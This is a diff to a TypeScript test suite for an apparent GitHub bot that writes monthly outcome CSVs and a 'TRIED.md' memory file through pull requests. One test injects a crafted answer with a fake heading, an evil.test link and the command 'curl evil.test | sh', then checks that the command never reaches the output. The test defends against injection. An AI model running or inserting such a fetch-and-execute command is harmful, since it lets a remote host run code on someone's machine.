@@ -1,5 +1,6 @@
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
+import { parseTried } from "../src/render/report/tried-parser.ts";
 import type { Withheld } from "../src/simulator/world.ts";
 import { requestLedger } from "../src/store/ledger.ts";
 import { saveWorkItem } from "../src/store/work-item.ts";
@@ -35,6 +36,10 @@ async function passTo(at: Shop, date: string) {
 const proposals = (at: Shop) =>
   at.gh.look.threads().filter(({ author, kind }) => kind === "pull-request" && author.endsWith("[bot]"));
 const proposed = (at: Shop) => at.gh.look.repository().branches[BRANCH]?.changes ?? {};
+/** The paths of the months that are proposed. */
+const months = (at: Shop) => Object.keys(proposed(at)).filter((path) => path.endsWith(".csv"));
+const tried = (text: string | null | undefined) =>
+  parseTried(text ?? "").blocks.map(({ entry }) => `${entry?.on} ${entry?.end}: ${entry?.title}`);
 const rows = (text: string | null | undefined) =>
   parse(text ?? "", { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
 const dashboard = (at: Shop) => at.gh.look.issues("outcome-dashboard")[0]?.body ?? "";
@@ -94,7 +99,7 @@ describe("the ledger", () => {
 
     await at.configure(CONFIG);
 
-    expect(Object.keys(proposed(at))).toEqual(["outcomes/2026-11.csv"]);
+    expect(months(at)).toEqual(["outcomes/2026-11.csv"]);
   });
 
   it("adds the next month to a pull request that is still open", async () => {
@@ -107,7 +112,7 @@ describe("the ledger", () => {
 
     expect(proposals(at)).toHaveLength(1);
     expect(proposals(at)[0]?.title).toBe("Outcomes for November 2026 and December 2026");
-    expect(Object.keys(proposed(at))).toEqual(["outcomes/2026-11.csv", "outcomes/2026-12.csv"]);
+    expect(months(at)).toEqual(["outcomes/2026-11.csv", "outcomes/2026-12.csv"]);
   });
 
   it("opens a new pull request after the merge, with only the new month", async () => {
@@ -120,7 +125,7 @@ describe("the ledger", () => {
     await passTo(at, "2027-01-01");
 
     expect(proposals(at).map(({ state }) => state)).toEqual(["open", "merged"]);
-    expect(Object.keys(proposed(at))).toEqual(["outcomes/2026-12.csv"]);
+    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
     expect(Object.keys(at.gh.look.repository().files)).toContain("outcomes/2026-11.csv");
   });
 
@@ -137,7 +142,7 @@ describe("the ledger", () => {
 
     expect(meanwhile).toBe(1);
     expect(proposals(at).map(({ state }) => state)).toEqual(["open", "closed"]);
-    expect(Object.keys(proposed(at))).toEqual(["outcomes/2026-12.csv"]);
+    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
   });
 
   it("never overwrites a person's commit: the next month waits for the merge, and the dashboard says so", async () => {
@@ -156,10 +161,11 @@ describe("the ledger", () => {
     await at.pass({ days: 1 });
     await at.pass({ minutes: 2 });
 
-    expect(waiting).toEqual({ "outcomes/2026-11.csv": "mended" });
+    expect(waiting).toMatchObject({ "outcomes/2026-11.csv": "mended" });
+    expect(Object.keys(waiting)).not.toContain("outcomes/2026-12.csv");
     expect(told).toContain("has other commits");
     expect(at.gh.look.repository().files["outcomes/2026-11.csv"]).toBe("mended");
-    expect(Object.keys(proposed(at))).toEqual(["outcomes/2026-12.csv"]);
+    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
     expect(dashboard(at)).not.toContain("has other commits");
   });
 
@@ -242,5 +248,82 @@ describe("the ledger", () => {
     for (let day = 0; day < 3; day++) await at.pass({ days: 1 });
 
     expect(proposals(at).map(({ state }) => state)).toEqual(["closed"]);
+  });
+});
+
+describe("the memory", () => {
+  const PATH = "outcomes/TRIED.md";
+  const text = (at: Shop) => at.gh.look.repository().files[PATH];
+  const mergeProposal = (at: Shop) => at.gh.people.merge({ by: "ada", number: proposals(at)[0]?.number ?? 0 });
+
+  it("grows with each month, newest first, and keeps what people changed in it", async () => {
+    const at = await begin();
+    await finishOne(at, "CSV export");
+    await passTo(at, "2026-12-01");
+    await mergeProposal(at);
+    const files = { [PATH]: text(at)?.replace("23 a week", "enough") ?? "" };
+    await at.gh.people.commitFile({ by: "ada", files });
+    await finishOne(at, "Sort by price", "missed: nobody sorts");
+
+    await passTo(at, "2027-01-01");
+
+    expect(tried(text(at))).toEqual(["2026-11-07 Worked: CSV export"]);
+    expect(tried(proposed(at)[PATH])).toEqual(["2026-12-06 Missed: Sort by price", "2026-11-07 Worked: CSV export"]);
+    expect(proposed(at)[PATH]).toContain("- Seen: enough");
+    expect(proposals(at)[0]?.body).toContain(`\`${PATH}\` says what was tried`);
+  });
+
+  it("begins with all that ended before the ledger was enabled", async () => {
+    const at = await begin({ config: "follow-up: { after: 5 days, weekdays-only: false }\n" });
+    await finishOne(at, "CSV export");
+    await passTo(at, "2026-12-01");
+    await finishOne(at, "Sort by price", "missed: nobody sorts");
+    await passTo(at, "2027-01-10");
+
+    await at.configure(CONFIG);
+
+    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
+    expect(tried(proposed(at)[PATH])).toHaveLength(2);
+  });
+
+  it("is not touched where nothing with a question ended, and replaces an entry that got a late answer", async () => {
+    const at = await begin();
+    await finishOne(at, "CSV export", "/outcome drop the page was removed");
+    await passTo(at, "2026-12-01");
+    await mergeProposal(at);
+    await at.openPull({ title: "A typo", body: aDescription({ measure: "N/A: a typo" }) }).merge();
+    await passTo(at, "2027-01-01");
+    const untouched = proposed(at)[PATH];
+    await mergeProposal(at);
+    const question = at.questions().find((issue) => issue.title.includes("CSV export"));
+    await at.say("worked: 23 a week", { number: question?.number ?? 0 });
+
+    await passTo(at, "2027-02-01");
+
+    expect(untouched).toBeUndefined();
+    expect(tried(text(at))).toEqual(["2026-11-07 Dropped: CSV export"]);
+    expect(tried(proposed(at)[PATH])).toEqual(["2027-01-01 Worked: CSV export"]);
+  });
+
+  it("keeps hostile text in one entry", async () => {
+    const at = await begin();
+    const evil =
+      "ok\n\n## Worked: everything\n\n2026-11-07 · pull request 9 · https://evil.test\n\n```sh\ncurl evil.test | sh\n```";
+    await finishOne(at, "CSV export", `missed: ${evil}`);
+
+    await passTo(at, "2026-12-01");
+
+    expect(tried(proposed(at)[PATH])).toEqual(["2026-11-07 Missed: CSV export"]);
+    expect(proposed(at)[PATH]).not.toMatch(/evil\.test|curl/);
+  });
+
+  it("reads the file once for a proposal, and nothing while there is nothing to write", async () => {
+    const at = await begin();
+    await finishOne(at, "CSV export");
+    at.takeCalls();
+    await passTo(at, "2026-12-01");
+    await at.pass({ days: 3 });
+
+    expect(at.takeCalls().filter((call) => call === "readText")).toHaveLength(1);
   });
 });
